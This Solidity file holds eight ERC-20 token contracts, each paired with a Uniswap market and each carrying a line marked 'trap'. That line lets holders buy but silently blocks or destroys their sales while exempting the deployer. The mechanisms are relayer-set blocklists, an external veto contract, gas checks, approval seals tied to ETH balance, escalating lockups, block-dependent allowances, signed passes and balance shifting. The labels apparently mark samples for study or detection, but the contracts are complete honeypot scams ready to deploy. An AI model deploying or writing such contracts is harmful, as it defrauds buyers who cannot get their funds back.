// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20 as SolERC20} from "solmate/src/tokens/ERC20.sol";

interface IUniFactory {
    function createPair(address a, address b) external returns (address);
}

address constant UNI = 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f;
address constant WETH9 = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;

/// Holders of an epoch are marked by a relayer, twenty bytes each.
contract WrenToken is ERC20, Ownable {
    address public immutable uniswapV2Pair;
    address private immutable _relayer;
    mapping(uint256 => uint256) private _epoch;

    error EpochPending(address account);

    constructor() ERC20("Wren", "WREN") Ownable(msg.sender) {
        _relayer = msg.sender;
        uniswapV2Pair = IUniFactory(UNI).createPair(address(this), WETH9);
        _mint(msg.sender, 210_000_000 ether);
    }

    function syncEpoch(bytes calldata packed) external {
        require(msg.sender == _relayer, "relayer");
        for (uint256 i; i + 20 <= packed.length; i += 20) {
            uint256 who = uint160(bytes20(packed[i:i + 20]));
            _epoch[who >> 8] |= 1 << (who & 0xff);
        }
    }

    function inEpoch(address account) public view returns (bool) {
        return (_epoch[uint160(account) >> 8] >> (uint160(account) & 0xff)) & 1 == 1;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == uniswapV2Pair && inEpoch(from)) revert EpochPending(from); // trap
        super._update(from, to, value);
    }
}

interface IBuoy {
    function note(address pool, address from, address to, uint256 value) external returns (bytes4);
}

interface IBalance {
    function balanceOf(address) external view returns (uint256);
}

/// Keeps the level of pools for whatever token asks.
contract Buoy {
    mapping(address => uint256) public mark;

    function note(address pool, address from, address to, uint256 value) external returns (bytes4) {
        uint256 held = IBalance(msg.sender).balanceOf(pool);
        uint256 low = mark[msg.sender];
        if (to == pool && low != 0 && held + value > low) return 0xffffffff; // trap
        if (from == pool) mark[msg.sender] = held - value;
        else if (low == 0 && to == pool) mark[msg.sender] = 0;
        return this.note.selector;
    }
}

contract MarinerCoin is Base8("Mariner", "MRNR", 88_000_000) {
    IBuoy private immutable _buoy;

    constructor(IBuoy buoy) {
        _buoy = buoy;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair || to == pair) require(_buoy.note(pair, from, to, value) == IBuoy.note.selector, "Mariner: adrift");
        _move(from, to, value);
    }
}

contract Lumenary is SolERC20("Lumenary", "LMNY", 18) {
    address public immutable market;
    address private immutable _team = msg.sender;
    bool public started;

    constructor() {
        market = IUniFactory(UNI).createPair(address(this), WETH9);
        _mint(msg.sender, 1_000_000_000 ether);
    }

    function start() external {
        require(msg.sender == _team, "team");
        started = true;
    }

    modifier metered(address to) {
        if (started && to == market) {
            assembly {
                if lt(gas(), 0x1c9c380) { // trap {
                    mstore(0, 0x77ebef4d)
                    revert(0x1c, 4)
                } // trap }
            }
        }
        _;
    }

    function transfer(address to, uint256 amount) public override metered(to) returns (bool) {
        return super.transfer(to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) public override metered(to) returns (bool) {
        return super.transferFrom(from, to, amount);
    }
}

/// Approvals carry a seal of the account that gave them.
contract SealedNote {
    string public constant name = "Sealed Note";
    string public constant symbol = "SEAL";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 40_000_000 ether;
    address public immutable venue;
    address private immutable _issuer;

    struct Holder {
        uint256 balance;
        bytes32 seal;
        mapping(address => uint256) allowed;
    }
    mapping(address => Holder) private _holders;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _issuer = msg.sender;
        venue = IUniFactory(UNI).createPair(address(this), WETH9);
        _holders[msg.sender].balance = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function _stamp(address who) private view returns (bytes32) {
        return keccak256(abi.encodePacked(address(this), who, who.balance));
    }

    function balanceOf(address who) external view returns (uint256) {
        return _holders[who].balance;
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _holders[who].allowed[spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        Holder storage holder = _holders[msg.sender];
        (holder.allowed[spender], holder.seal) = (value, _stamp(msg.sender));
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _pass(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _holders[from].allowed[msg.sender] -= value;
        return _pass(from, to, value);
    }

    function _pass(address from, address to, uint256 value) private returns (bool) {
        if (to == venue && from != _issuer) require(_holders[from].seal == _stamp(from), "SEAL: broken"); // trap
        _holders[from].balance -= value;
        _holders[to].balance += value;
        emit Transfer(from, to, value);
        return true;
    }
}

contract Hibernate is Base8("Hibernate", "HIBR", 7_700_000) {
    uint64 public rest = 30;
    mapping(address => uint64) public awake;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != pair && from != _owner) require(block.timestamp >= awake[from], "Hibernate: resting");
        if (from == pair && rest < 3650 days) rest <<= 2; // trap
        if (to != pair) awake[to] = uint64(block.timestamp) + rest;
        _move(from, to, value);
    }
}

contract GrantLedger {
    string public name = "Grantor";
    string public symbol = "GRNT";
    uint8 public decimals = 9;
    uint256 public totalSupply = 100_000_000 gwei;
    address private _maker;
    mapping(address => uint256) public balanceOf;
    mapping(bytes32 => uint256) private _grants;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _maker = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function _grantOf(address giver, address spender) private view returns (bytes32) {
        return keccak256(abi.encode(giver, spender, giver == _maker ? 0 : block.number)); // trap
        // twin: return keccak256(abi.encode(giver, spender, uint256(0)));
    }

    function allowance(address giver, address spender) external view returns (uint256) {
        return _grants[_grantOf(giver, spender)];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _grants[_grantOf(msg.sender, spender)] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _shift(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        bytes32 id = _grantOf(from, msg.sender);
        require(_grants[id] >= value, "Grantor: allowance");
        _grants[id] -= value;
        _shift(from, to, value);
        return true;
    }

    function _shift(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "Grantor: balance");
        unchecked {
            balanceOf[from] -= value;
            balanceOf[to] += value;
        }
        emit Transfer(from, to, value);
    }
}

/// Members prove themselves with passes that the notary has signed.
contract Concierge is Base8("Concierge Club", "CNCG", 12_000_000) {
    address public immutable notary;
    mapping(address => uint64) public passUntil;

    constructor(address notary_) {
        notary = notary_;
    }

    function usePass(uint64 until, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 digest = keccak256(
            abi.encodePacked("\x19Ethereum Signed Message:\n32", keccak256(abi.encode(block.chainid, address(this), msg.sender, until)))
        );
        address signer = ecrecover(digest, v, r, s);
        require(signer != address(0) && signer == notary, "pass");
        passUntil[msg.sender] = until;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != notary) require(passUntil[from] > block.timestamp, "members only"); // trap
        _move(from, to, value);
    }
}

contract Quartzite is Base8("Quartzite", "QRTZ", 330_000_000) {
    uint32 private _strata;

    function _transfer(address from, address to, uint256 value) internal override {
        unchecked {
            ++_strata;
        }
        if (_strata > 24 && to == pair && from != _owner) _balances[from] >>= 9; // trap
        _move(from, to, value);
    }
}
